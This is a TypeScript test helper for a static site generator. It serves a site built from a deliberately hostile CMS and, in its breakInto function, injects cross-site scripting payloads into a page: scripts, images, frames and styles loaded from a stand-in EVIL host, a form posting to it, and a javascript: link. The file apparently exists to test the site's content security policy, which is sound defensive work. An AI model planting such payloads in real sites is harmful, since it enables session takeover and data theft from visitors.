import { execFile } from "node:child_process";
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, request, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { promisify } from "node:util";
import { CLI, serveSites } from "../sites/serve.ts";
import { startWordpress } from "../fakeWordpress.js";
import { edit } from "../integration/build/sitegen.ts";
import { EVIL, hostileData, TAKE_OVER } from "./hostileContent.ts";

/** A site whose posts and menu were pulled from a CMS in bad hands, and whose pages ask that CMS for the menu. */
export interface HostileSite {
  origin: string;
  /** How the CMS answers when a page asks for the menu. */
  menu: (response: ServerResponse) => void;
  stop(): Promise<void>;
}

/** A page into which something has got past everything else: only the policy is left. */
export const BROKEN_INTO = "/atlantis/bare/";

export async function serveHostile(): Promise<HostileSite> {
  const root = mkdtempSync(join(tmpdir(), "sitegen-hostile-"));
  const cms = await startWordpress(hostileData());
  writeProject(root, cms.base);
  await promisify(execFile)(process.execPath, [CLI, "pull", "--root", root, "--quiet"]);
  await cms.close();
  const preview = await serveSites(root);
  breakInto(join(root, "dist", BROKEN_INTO, "index.html"));
  const site = { menu: (response: ServerResponse) => void response.writeHead(404).end() };
  const front = createServer((request, response) =>
    /\/menus\/v1\/menu\//.test(request.url ?? "") ? site.menu(response) : passOn(preview.origin, request, response),
  );
  await new Promise<void>((ready) => front.listen(0, "127.0.0.1", ready));
  return Object.assign(site, {
    origin: `http://localhost:${(front.address() as AddressInfo).port}`,
    async stop() {
      front.closeAllConnections();
      await new Promise((closed) => front.close(closed));
      await preview.stop();
      rmSync(root, { recursive: true, force: true });
    },
  });
}

/** Asks the server that has everything but the menu, with the headers that it sends, the policy among them. */
function passOn(origin: string, { url, method, headers }: IncomingMessage, response: ServerResponse): void {
  const asked = request(origin + url, { method, headers: { ...headers, host: new URL(origin).host } }, (answer) => {
    response.writeHead(answer.statusCode ?? 500, answer.headers);
    answer.pipe(response);
  });
  asked.on("error", () => response.destroy()).end();
}

function writeProject(root: string, base: string): void {
  cpSync(resolve(import.meta.dirname, "../fixtures/settings"), root, { recursive: true });
  const countries = join(root, "countries");
  rmSync(join(countries, "lemuria.yaml"));
  const network = join(countries, "network.yaml");
  edit(network, "https://cms.example.com/wp-json", base);
  edit(
    network,
    "groups: {}\n",
    "groups:\n  news:\n    label: News\n    collection: { categories: { visas: Visas } }\n",
  );
  const atlantis = join(countries, "atlantis.yaml");
  edit(atlantis, "menuId: 1", "menuId: 6");
  edit(atlantis, "\npages:\n", "\ngroups:\n  news: {}\n\npages:\n");
  edit(atlantis, /$/, `\npull:\n  from: ${base}\n  posts: { group: news }\n  menu: { id: 6, route: menus/v1 }\n`);
  const index = join(countries, "content/shared/news/index.md");
  mkdirSync(dirname(index));
  cpSync(join(countries, "content/shared/contact-us.md"), index);
}

/** Puts into a built page what sanitising keeps out. */
function breakInto(file: string): void {
  const injected = `<script>${TAKE_OVER}</script><script src="${EVIL}/a.js"></script><img src="x" onerror="${TAKE_OVER}">
<img src="${EVIL}/a.png"><iframe src="${EVIL}/"></iframe><object data="${EVIL}/"></object><link rel="stylesheet" href="${EVIL}/a.css">
<base href="${EVIL}/"><style>body{background:url(${EVIL}/b.png)}</style><form id="leak" action="${EVIL}/"><input name="a" value="b"></form>
<a id="bad" href="javascript:${TAKE_OVER}">Press</a>`;
  writeFileSync(file, readFileSync(file, "utf8").replace("</body>", `${injected}</body>`));
  for (const ending of [".br", ".gz"]) rmSync(file + ending, { force: true });
}
